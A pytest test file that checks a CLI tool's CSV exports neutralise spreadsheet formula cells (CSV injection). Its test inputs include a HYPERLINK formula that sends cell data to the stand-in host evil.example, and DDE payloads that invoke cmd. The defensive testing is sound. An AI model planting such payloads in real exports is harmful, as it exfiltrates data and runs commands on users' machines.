"""CSV output cannot carry spreadsheet formulas (OWASP "CSV Injection").

A cell starting with ``= + - @``, a tab or a carriage return is written with a leading ``'`` and
quoted, so a spreadsheet shows it as text; a cell that is only a plain decimal number (``-5``)
stays a number; every other row keeps the exact bytes the csv module (or pandas) wrote before.
Checked on `batch --format csv`, `whatif --csv`, `compare --csv` and `query --format csv`.
"""
from __future__ import annotations

import csv
import io
import json
import os

import pytest
import yaml
from click.testing import CliRunner

import exportkb.cli as cli
from exportkb.batch import CSV_OUT_COLUMNS, csv_rows
from exportkb.batch.outputs import CsvOut, dangerous, frame_csv, neutralise, neutralise_csv_text

from .conftest import CASES

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1,2"]
SAFE = ["abc", "", "3A090.a", "-5", "+3.5", "-1e5", "-0.25", "a=b", " =1", "'=already quoted"]


def _invoke(args: list[str]):
    result = CliRunner().invoke(cli.main, args, catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


@pytest.mark.parametrize("cell", ATTACKS)
def test_formula_cells_are_prefixed_with_a_quote(cell):
    assert dangerous(cell) and neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", SAFE + [5, -5, True, None, 2.5])
def test_other_cells_and_numbers_are_unchanged(cell):
    assert not dangerous(cell) and neutralise(cell) == cell


def test_csv_out_is_csv_writer_byte_for_byte_without_formulas():
    rows = [SAFE, [1, -2, True, None, "a,b", 'say "hi"', "two\nlines", "x\ry"], ["only"], [""]]
    ours, theirs = io.StringIO(), io.StringIO()
    CsvOut(ours).writerows(rows)
    csv.writer(theirs).writerows(rows)
    assert ours.getvalue() == theirs.getvalue()


def test_csv_out_quotes_and_neutralises_formula_cells():
    buf = io.StringIO()
    CsvOut(buf).writerow(["case-1", ATTACKS[0], -7, "-7", ATTACKS[6]])
    text = buf.getvalue()
    assert text.startswith('case-1,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-7,-7,"\'=1,2"')
    assert next(csv.reader(io.StringIO(text))) == ["case-1", "'" + ATTACKS[0], "-7", "-7", "'=1,2"]


def _good_case() -> dict:
    data = yaml.safe_load((CASES / "lpp" / "lpp-cap-one-over.yaml").read_text(encoding="utf-8"))
    data.pop("expect", None)
    return data


def test_batch_csv_neutralises_ids(tmp_path):
    lines, ids = [], ATTACKS[:4] + ["-5", "plain"]
    for n, case_id in enumerate(ids):
        data = _good_case()
        data["case"] = case_id
        data["items"][0]["id"] = ATTACKS[(n + 1) % len(ATTACKS)] if case_id != "plain" else "gpus"
        lines.append(json.dumps(data))
    log = tmp_path / "log.jsonl"
    log.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    code, _, stderr = _invoke(["batch", str(log), "--format", "csv", "--out", str(out), "--quiet"])
    assert code == 0, stderr
    with out.open(newline="", encoding="utf-8") as fh:
        got = list(csv.reader(fh))
    col = {c: i for i, c in enumerate(CSV_OUT_COLUMNS)}
    assert got[0] == CSV_OUT_COLUMNS
    cases = [r[col["case"]] for r in got[1:]]
    assert cases == ["'" + c for c in ATTACKS[:4]] + ["-5", "plain"]
    assert [r[col["item"]] for r in got[1:5]] == ["'" + ATTACKS[n + 1] for n in range(4)]
    for row in got[1:]:  # no cell of the file can start a formula
        assert not any(dangerous(cell) for cell in row), row
    raw = out.read_text(encoding="utf-8")
    assert '"\'=HYPERLINK(""http://evil.example/' in raw  # quoted, quotes doubled


def test_batch_csv_bytes_unchanged_for_ordinary_ids(tmp_path):
    """Ordinary rows: exactly the bytes csv.writer gives for the same results (the format before)."""
    lines = []
    for case_id in ("a-1", "b 2", "c,3"):
        data = _good_case()
        data["case"] = case_id
        lines.append(json.dumps(data))
    log = tmp_path / "log.jsonl"
    log.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out_csv, out_jsonl = tmp_path / "out.csv", tmp_path / "out.jsonl"
    for out, fmt in ((out_csv, "csv"), (out_jsonl, "jsonl")):
        code, _, stderr = _invoke(["batch", str(log), "--format", fmt, "--out", str(out), "--quiet"])
        assert code == 0, stderr
    expected = io.StringIO()
    w = csv.writer(expected)
    w.writerow(CSV_OUT_COLUMNS)
    for line in out_jsonl.read_text(encoding="utf-8").splitlines():
        w.writerows(csv_rows(json.loads(line)))
    assert out_csv.read_bytes() == expected.getvalue().encode("utf-8")


def test_whatif_csv_neutralises_item_ids_and_keeps_other_bytes(tmp_path, kb):
    import pandas as pd

    from exportkb.analysis import whatif
    from exportkb.case.loader import case_from_data

    data = _good_case()
    data["items"][0]["id"] = ATTACKS[1]
    case_file = tmp_path / "case.yaml"
    case_file.write_text(yaml.safe_dump(data), encoding="utf-8")
    out = tmp_path / "grid.csv"
    code, _, stderr = _invoke(["whatif", str(case_file), "--vary", "to=IN,DE", "--csv", str(out)])
    assert code == 0, stderr
    df = pd.read_csv(out, keep_default_na=False)
    assert list(df["item"]) == ["'" + ATTACKS[1]] * 2
    # a frame without formula cells: frame_csv is pandas' own to_csv
    plain = whatif.sweep(case_from_data(_good_case(), kb), kb, axes={"to": ["IN", "DE"]})
    assert frame_csv(plain) == plain.to_csv(index=False, lineterminator=os.linesep)


def test_whatif_csv_refuses_to_overwrite_its_case_file(tmp_path):
    case_file = tmp_path / "case.yaml"
    text = yaml.safe_dump(_good_case())
    case_file.write_text(text, encoding="utf-8")
    code, _, stderr = _invoke(["whatif", str(case_file), "--vary", "to=IN", "--csv", str(case_file)])
    assert code == 2 and "is the input file" in stderr
    assert case_file.read_text(encoding="utf-8") == text


def test_compare_csv_neutralises_case_ids(tmp_path):
    data = _good_case()
    data["case"] = ATTACKS[0]
    case_file = tmp_path / "case.yaml"
    case_file.write_text(yaml.safe_dump(data), encoding="utf-8")
    out = tmp_path / "changes.csv"
    code, _, stderr = _invoke(["compare", str(case_file), "--reform", "lpp-cap-doubled", "--no-rules",
                               "--csv", str(out), "--json"])
    assert code == 0, stderr
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert rows and all(r["case"] == "'" + ATTACKS[0] for r in rows)
    assert not [name for name in os.listdir(tmp_path) if ".tmp-" in name or name.endswith(".lock")]


def test_neutralise_csv_text_changes_only_formula_cells():
    text = 'a,b\r\n=1+1,2\r\n"x,y",-3\r\n'
    assert neutralise_csv_text(text, "\r\n") == 'a,b\r\n"\'=1+1",2\r\n"x,y",-3\r\n'
